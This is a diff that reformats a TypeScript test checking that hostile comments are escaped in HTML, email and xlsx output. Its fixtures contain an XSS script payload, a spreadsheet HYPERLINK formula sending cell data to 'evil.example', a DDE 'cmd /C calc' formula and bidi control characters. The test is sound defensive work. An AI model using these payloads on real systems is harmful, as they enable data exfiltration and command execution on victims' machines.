@@ -13,7 +13,7 @@ import { OFFICER, PERIOD, startFaultWorld, type FaultWorld } from './harness';
 const SCRIPT = '<script>alert("pwned")</script><img src=x onerror=alert(1)>';
 const FORMULAS: Record<string, string> = {
   OP388a: '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
-  OP389a: '+1+cmd|\' /C calc\'!A0',
+  OP389a: "+1+cmd|' /C calc'!A0",
   Op421: '-2+3',
   Op422: '@SUM(1,2)',
 };
@@ -29,7 +29,13 @@ afterAll(async () => {
   await world?.stack.stop();
 });
 
-const previewRerun = { trigger: 'rerun', period: PERIOD, requestedBy: 'ann', reason: 'hostile comments', send: 'preview' };
+const previewRerun = {
+  trigger: 'rerun',
+  period: PERIOD,
+  requestedBy: 'ann',
+  reason: 'hostile comments',
+  send: 'preview',
+};
 
 async function putComments(body: unknown): Promise<void> {
   await world.store.put(`comments/${PERIOD}.json`, JSON.stringify(body));
@@ -37,7 +43,10 @@ async function putComments(body: unknown): Promise<void> {
 
 test('hostile comments are escaped, stored as text, neutralised and noted', async () => {
   await putComments({
-    sections: { 'child-protection': { performance: REVERSED, service: SCRIPT }, 'cp-reviews-visits': { service: LONGEST } },
+    sections: {
+      'child-protection': { performance: REVERSED, service: SCRIPT },
+      'cp-reviews-visits': { service: LONGEST },
+    },
     indicators: { HY64: SCRIPT, ...FORMULAS },
   });
   await world.stack.clearEmails();
@@ -52,9 +61,14 @@ test('hostile comments are escaped, stored as text, neutralised and noted', asyn
   expect(section.comments.service.text).toBe(SCRIPT);
   expect(pack.sections.find((s) => s.id === 'cp-reviews-visits')!.comments.service.text).toBe(LONGEST);
   const indicators = pack.sections.flatMap((s) => s.indicators);
-  for (const [code, text] of Object.entries(FORMULAS)) expect(indicators.find((i) => i.code === code)?.comment).toBe(text);
+  for (const [code, text] of Object.entries(FORMULAS))
+    expect(indicators.find((i) => i.code === code)?.comment).toBe(text);
   expect(pack.dataQuality.warnings).toContainEqual(
-    expect.objectContaining({ kind: 'comment-control-characters', column: 'sections.child-protection.performance', value: 'U+202E U+202C U+0007 U+0000 U+2066 U+2069' }),
+    expect.objectContaining({
+      kind: 'comment-control-characters',
+      column: 'sections.child-protection.performance',
+      value: 'U+202E U+202C U+0007 U+0000 U+2066 U+2069',
+    }),
   );
 
   // pack.html and the email body: the markup arrives as text.
@@ -72,7 +86,11 @@ test('hostile comments are escaped, stored as text, neutralised and noted', asyn
   // pack.xlsx: every hostile comment is a string cell with no formula; no cell anywhere holds a formula.
   const workbookBytes = (await world.store.get(`${result.prefix}pack.xlsx`))!.body;
   const book = XLSX.read(workbookBytes, { type: 'buffer', cellFormula: true });
-  const cells = book.SheetNames.flatMap((name) => Object.entries(book.Sheets[name]).filter(([ref]) => !ref.startsWith('!')).map(([, cell]) => cell as XLSX.CellObject));
+  const cells = book.SheetNames.flatMap((name) =>
+    Object.entries(book.Sheets[name])
+      .filter(([ref]) => !ref.startsWith('!'))
+      .map(([, cell]) => cell as XLSX.CellObject),
+  );
   for (const text of [...Object.values(FORMULAS), SCRIPT, REVERSED_CLEAN, LONGEST]) {
     const holding = cells.filter((cell) => cell.v === text);
     expect(holding.length).toBeGreaterThan(0);
